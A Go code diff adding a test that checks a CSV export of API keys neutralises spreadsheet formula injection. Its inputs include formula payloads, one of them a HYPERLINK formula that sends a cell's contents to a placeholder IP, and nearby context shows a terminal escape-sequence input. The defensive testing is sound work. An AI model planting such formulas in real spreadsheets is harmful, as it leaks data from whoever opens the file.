@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 	"time"
@@ -114,6 +115,31 @@ KEY     k
 ACTOR   -
 REASON  a long reason\x1b[2J
 `, least.String())
+}
+
+// No cell of a spreadsheet is a formula, and a program gets every text back.
+func TestCSV(t *testing.T) {
+	texts := []string{"", "ci", "a=b", "=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "\nx", "'quoted'",
+		"''", "＝1", "＠x", `=HYPERLINK("http://192.0.2.1/?"&A1,"x")`, "a\n=b", "a,=b", `",=b`, "\xff"}
+	var file bytes.Buffer
+	write := csvWriter(&file)
+	for _, text := range texts {
+		require.NoError(t, write(&key{ID: "id", Name: text, Owner: text, Scopes: []string{text},
+			DisableReason: text, RevokeReason: text}))
+	}
+	require.NoError(t, write(nil))
+	rows, err := csv.NewReader(&file).ReadAll()
+	require.NoError(t, err)
+	for i, row := range rows[1:] {
+		for column, cell := range row {
+			require.False(t, cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n"), "%q", cell)
+			require.False(t, strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "＠"), "%q", cell)
+			switch rows[0][column] {
+			case "name", "owner", "scopes", "disable_reason", "revoke_reason":
+				require.Equal(t, texts[i], strings.TrimPrefix(cell, "'"))
+			}
+		}
+	}
 }
 
 func TestSizeText(t *testing.T) {
